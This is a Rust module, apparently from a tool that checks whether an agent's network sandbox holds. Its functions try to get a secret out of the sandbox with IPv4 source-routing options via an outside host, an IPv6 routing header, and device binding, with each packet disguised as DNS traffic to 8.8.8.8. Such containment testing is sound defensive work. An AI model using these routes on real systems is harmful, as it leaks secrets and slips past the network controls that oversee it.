//! Options that send a packet elsewhere than its destination says.

use std::net::SocketAddr;

use super::Attempt;
use super::socket::{self, Control, OUTSIDE_V4, connect, open, send_to, send_with, set};
use crate::prove::facts::Facts;
use crate::prove::wire::DEVICE;

/// A service whose answers agents may have: the packet's first address looks harmless.
const HARMLESS_V4: [u8; 4] = [8, 8, 8, 8];
const DNS: u16 = 53;
const IP_OPTIONS: i32 = 4;
const IP_RETOPTS: i32 = 7;
const IPV6_RTHDR: i32 = 57;

/// Loose source routing by way of somebody on the internet.
fn via_v4() -> Vec<u8> {
    [&[131, 7, 4][..], &OUTSIDE_V4.octets(), &[0]].concat()
}

pub(in crate::prove) fn source_route(facts: &Facts) -> Attempt {
    let datagram = open(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    set(&datagram, libc::IPPROTO_IP, IP_OPTIONS, &via_v4())?;
    send_to(&datagram, facts.secret.as_bytes(), SocketAddr::from((HARMLESS_V4, DNS)))
}

pub(in crate::prove) fn source_route_of_a_message(facts: &Facts) -> Attempt {
    let datagram = open(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let route = Control { level: libc::IPPROTO_IP, kind: IP_RETOPTS, data: &via_v4() };
    send_with(&datagram, facts.secret.as_bytes(), SocketAddr::from((HARMLESS_V4, DNS)), &route)
}

/// Segment routing, type 4, by way of another host.
pub(in crate::prove) fn segment_route(facts: &Facts) -> Attempt {
    let datagram = open(libc::AF_INET6, libc::SOCK_DGRAM, 0)?;
    let via = [0x2001_u16, 0xdb8, 0, 0, 0, 0, 0, 9].map(u16::to_be_bytes).concat();
    set(&datagram, libc::IPPROTO_IPV6, IPV6_RTHDR, &[&[0, 2, 4, 0, 0, 0, 0, 0][..], &via].concat())?;
    let nameserver = SocketAddr::from(([0x2001, 0xdb8, 0, 0, 0, 0, 0, 0x53], DNS));
    send_to(&datagram, facts.secret.as_bytes(), nameserver)
}

pub(in crate::prove) fn bound_to_device(_: &Facts) -> Attempt {
    let stream = open(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    set(&stream, libc::SOL_SOCKET, libc::SO_BINDTODEVICE, DEVICE.as_bytes())?;
    connect(&stream, socket::v4())
}

/// To a nameserver, so that only the device is wrong.
pub(in crate::prove) fn device_of_a_message(facts: &Facts) -> Attempt {
    use super::At as _;
    let datagram = open(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let index = nix::net::if_::if_nametoindex(DEVICE).at("if_nametoindex")?;
    let device = [&index.to_ne_bytes()[..], &[0; 8]].concat();
    let route = Control { level: libc::IPPROTO_IP, kind: libc::IP_PKTINFO, data: &device };
    send_with(&datagram, facts.secret.as_bytes(), SocketAddr::from((HARMLESS_V4, DNS)), &route)
}
